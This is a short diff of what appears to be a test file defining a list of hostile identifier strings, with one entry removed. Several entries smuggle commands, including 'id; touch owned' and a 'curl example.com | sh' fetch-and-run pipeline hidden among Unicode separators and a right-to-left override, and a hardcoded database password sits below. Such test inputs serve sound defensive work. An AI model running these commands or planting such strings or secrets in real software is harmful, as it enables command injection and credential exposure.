@@ -42,7 +42,6 @@ export const hostileIds = [
     `${"'".repeat(128)}${"é".repeat(127)}`,
     `${"\u007f".repeat(70)}id; touch owned #`,
     "one\u2028Stop it by hand:\u2029curl example.com | sh\u0085two\u202etxt.exe",
-    "ends in line breaks\n\n",
 ];
 
 const secret = "hunter2-the-database-password";
